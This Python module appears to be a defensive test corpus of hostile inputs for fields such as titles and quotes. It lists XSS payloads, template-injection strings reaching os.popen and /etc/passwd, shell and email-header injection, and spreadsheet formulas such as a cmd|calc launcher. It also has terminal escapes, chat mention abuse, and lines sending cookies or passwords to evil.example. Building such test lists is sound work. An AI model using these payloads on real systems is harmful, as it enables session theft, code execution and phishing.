"""What strangers may write where a title, a quote or an outlet's name is expected: our own list of what does harm."""

from __future__ import annotations

_CALLS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "location='//evil.example'")
_HANDLERS = (
    *(
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onpointerenter",
        "ontoggle",
        "onbegin",
        "onanimationend",
    ),
    *("onbeforetoggle", "onscrollend", "oncopy"),
)
_SCHEMES = (
    "javascript",
    "JaVaScRiPt",
    "vbscript",
    "data:text/html,<script>alert(1)</script>//",
    "java\tscript",
    "\x01javascript",
)

SCRIPTS = (
    *(f"<script>{call}</script>" for call in _CALLS),
    *(f"<ScRiPt >{call}</sCrIpT >" for call in _CALLS),
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script>alert(1)",
)
HANDLERS = (
    *(f"<img src=x {handler}={_CALLS[0]}>" for handler in _HANDLERS),
    *(f'" {handler}="{_CALLS[0]}" x="' for handler in _HANDLERS),
    *(f"' {handler}='{_CALLS[0]}' x='" for handler in _HANDLERS[:4]),
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<bdi onclick=alert(1)>x</bdi>",
    "<mark/onmouseover=alert(1)>x</mark>",
)
FRAMES = (
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/?all)}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<form action=//evil.example><input name=password>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='//evil.example' ping='//evil.example'>x</a>",
    "<table background=javascript:alert(1)>",
    "</td></tr></table><h1>x</h1>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
TEMPLATES = (
    *(
        "{{ 7*7 }}",
        "{{7*'7'}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% raw %}",
        "{%- endif %}",
        "{# x #}",
        "*{7*7}",
        "@(7*7)",
    ),
    "{{ letter.__class__.__mro__ }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
    "{{ config }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.popen('id') }}",
    "{0.__class__}",
    "{relation}",
    "%(message)s %s %n",
    "$(id) `id` ; id | id",
)
HEADERS = (
    "x\r\nBcc: everyone@victim.example",
    "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "x\r\n\r\n--boundary",
    "x\u2028Bcc: a@victim.example",
    "x\x85Bcc: a@victim.example",
    "x\x0bBcc: a@victim.example\x0c",
    "=?utf-8?q?x=0D=0ABcc:_a@victim.example?=",
    "x\r\n.\r\nMAIL FROM:<a@victim.example>",
)
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example","x")'),
    '"=1+1"',
    ',"=1+1',
    '"\r\n=1+1',
    '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
)
TERMINALS = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred",
    "x\ry",
    "x\b\b\by",
    "\x07\x7f\x00",
    "[bold red]x[/bold red]",
    "[link=https://evil.example]x[/link]",
    "[/]",
    "\u202egnp.exe",
    "\u2066x\u2069\u200f\u061c",
    "\ufeff\u00ad\u200bx",
    "\ud800x",
    '{"level":"error","event":"forged"}\n{"level":"error"}',
    "x\n2026-01-18T07:42:00Z [error    ] forged",
)
CHATS = (
    *("@everyone", "@here", "@channel", "<!channel>", "<!here|x>", "<@U0123>", "<#C0123>", "@\u2060everyone"),
    "<https://evil.example|bank>",
    "[bank](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "```\nx",
)
TEXTS = (*SCRIPTS, *HANDLERS, *FRAMES, *TEMPLATES, *HEADERS, *FORMULAS, *TERMINALS, *CHATS)
ADDRESSES = (
    *(f"{scheme}:alert(1)" for scheme in _SCHEMES),
    *(
        f"https://x.example/{text}"
        for text in ('"><script>alert(1)</script>', "' onclick='alert(1)", "\x00", "{{7*7}}", "@everyone")
    ),
    *(
        "//evil.example",
        "file:///etc/passwd",
        "https://a:b@x.example/",
        "https://x.example\\@evil.example/",
        "blob:x",
        "",
    ),
)
